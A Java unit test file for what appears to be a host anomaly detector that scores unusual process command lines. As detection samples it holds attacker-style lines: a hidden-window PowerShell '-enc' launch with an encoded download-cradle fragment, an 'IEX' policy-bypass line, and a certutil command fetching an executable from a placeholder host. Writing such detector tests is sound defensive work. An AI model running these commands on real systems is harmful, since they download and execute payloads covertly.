package dev.lapwing.core.detector.process;

import static dev.lapwing.core.detector.Feeding.feed;
import static dev.lapwing.core.detector.process.Launches.DAY;
import static dev.lapwing.core.detector.process.Launches.MONDAY;
import static dev.lapwing.core.detector.process.Launches.launch;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lapwing.core.detector.KnownTo;
import dev.lapwing.core.detector.Observation;
import dev.lapwing.core.detector.RecordingJudgement;
import dev.lapwing.core.event.Event;
import dev.lapwing.core.finding.Contribution;
import dev.lapwing.core.finding.Finding;
import dev.lapwing.core.finding.Severity;
import dev.lapwing.core.peer.Peers;
import dev.lapwing.core.rule.RuleHead;
import dev.lapwing.core.rule.Settings;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

class OddCommandLineTest {

  private static final long LATER = MONDAY + 20 * DAY;
  private static final String BLOB = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA";
  private static final String ATTACK = "powershell -nop -w hidden -enc " + BLOB;

  static OddCommandLine detector() {
    RuleHead rule = RuleHead.named("odd_command_line", Severity.MEDIUM);
    return new OddCommandLine(rule, ProcessSettings.from(Settings.none()));
  }

  static Event run(long time, String program, String line) {
    return launch(time, "cmd.exe", program, line);
  }

  /** The inventory script every day, and editors with ever other documents. */
  static List<Event> days(int many) {
    List<Event> events = new ArrayList<>();
    for (int day = 0; day < many; day++) {
      long at = MONDAY + day * DAY;
      String script = "powershell -File C:\\Tools\\inventory.ps1 -Day " + day;
      events.add(run(at, "powershell.exe", script));
      events.add(run(at + 60_000, "winword.exe", "winword /n \"C:\\d\\offer " + day + ".docx\""));
      events.add(run(at + 120_000, "tool.exe", "tool --case word" + (char) ('a' + day)));
      events.add(run(at + 180_000, "svchost.exe", "svchost -k netsvcs -p"));
    }
    return events;
  }

  private static RecordingJudgement then(Peers peers, Event... events) {
    OddCommandLine detector = detector();
    CommandState state = detector.section().create();
    feed(detector, state, days(20));
    RecordingJudgement said = new RecordingJudgement();
    for (Event event : events) {
      detector.observe(state, new Observation(RareProcessTest.HOST, event, peers), said);
    }
    return said;
  }

  private static Peers known(double p, int machines) {
    return new KnownTo(p, machines, machines, 400, 400).asPeers();
  }

  @Test
  void anEncodedCommandIsFoundAndExplained() {
    RecordingJudgement said = then(known(0.1, 0), run(LATER, "powershell.exe", ATTACK));
    assertThat(said.findings).hasSize(1);
    Finding finding = said.findings.get(0);
    assertThat(finding.surprise()).isBetween(3.0, 6.0);
    assertThat(finding.contributions())
        .extracting(Contribution::what)
        .contains("shape", "`-nop` first");
    assertThat(finding.message())
        .contains("never here, the program ran on 20 days; on 0 of 400 machines")
        .contains("an encoded command, a hidden window");
  }

  @Test
  void theDailyScriptIsKnown() {
    String script = "powershell -File C:\\Tools\\inventory.ps1 -Day 77";
    RecordingJudgement said = then(Peers.NONE, run(LATER, "powershell.exe", script));
    assertThat(said.tests).containsExactly(0.0);
  }

  @Test
  void whoeverIsEncodedEveryDayIsNotOdd() {
    OddCommandLine detector = detector();
    CommandState state = detector.section().create();
    for (int day = 0; day < 20; day++) {
      List<Event> today = new ArrayList<>(days(20).subList(4 * day, 4 * day + 4));
      today.add(run(MONDAY + day * DAY + 240_000, "powershell.exe", ATTACK));
      feed(detector, state, today);
    }
    String other = ATTACK.replace("SQBF", "aQBZ");
    Event event = run(LATER, "powershell.exe", other);
    assertThat(feed(detector, state, List.of(event)).tests).containsExactly(0.0);
  }

  @Test
  void wordsThatOthersUseSurpriseLess() {
    Event event = run(LATER, "powershell.exe", "powershell -Command Get-Date -Format o");
    double strange = then(known(0.05, 0), event).tests.get(0);
    double familiar = then(known(1, 80), event).tests.get(0);
    assertThat(familiar).isLessThan(strange - 1);
  }

  @Test
  void aProgramThatSaysSomethingNewEveryDaySurprisesLittle() {
    Event event = run(LATER, "tool.exe", "tool --case wordz");
    assertThat(then(Peers.NONE, event).tests.get(0)).isLessThan(0.5);
  }

  @Test
  void aProgramThatIsNewHereIsJudgedByOthersAndShapeOnly() {
    Event plain = run(LATER, "newtool.exe", "newtool --a --b --c");
    assertThat(then(Peers.NONE, plain).tests).containsExactly(0.0);
    Event fetching = run(LATER, "certutil.exe", "certutil -urlcache -split -f http://x/a.exe");
    assertThat(then(known(0.05, 0), fetching).tests.get(0)).isGreaterThan(1.9);
  }

  @Test
  void paddingDoesNotHelp() {
    String padded = ATTACK + " -File inventory.ps1 -Day 1".repeat(8);
    double plain = then(Peers.NONE, run(LATER, "powershell.exe", ATTACK)).tests.get(0);
    double drowned = then(Peers.NONE, run(LATER, "powershell.exe", padded)).tests.get(0);
    assertThat(drowned).isGreaterThanOrEqualTo(plain);
  }

  @Test
  void manyOddLinesOfOneProgramOnOneDayAreOneFinding() {
    RecordingJudgement said =
        then(
            known(0.1, 0),
            run(LATER, "powershell.exe", ATTACK),
            run(LATER + 60_000, "powershell.exe", "powershell -ep bypass IEX $x"));
    Set<String> uids = new TreeSet<>();
    said.findings.forEach(finding -> uids.add(finding.uid()));
    assertThat(said.findings).hasSize(2);
    assertThat(uids).hasSize(1);
  }

  @Test
  void aLineIsTestedOnceADay() {
    Event event = run(LATER, "powershell.exe", ATTACK);
    assertThat(then(Peers.NONE, event, event).tests).hasSize(1);
  }

  @Test
  void nothingIsJudgedWhileLearning() {
    RecordingJudgement said = feed(detector(), days(5));
    assertThat(said.judged).isZero();
    assertThat(said.notJudged).containsOnly("unknown: still learning");
  }

  @Test
  void aStartWithoutCommandLineIsNotWatched() {
    Event event = launch(LATER, "a.exe", "b.exe", "x");
    Event bare =
        event.toBuilder()
            .process(dev.lapwing.core.event.ProcessInfo.of("b.exe", null, 1, null))
            .build();
    assertThat(detector().watches(event)).isTrue();
    assertThat(detector().watches(bare)).isFalse();
  }
}
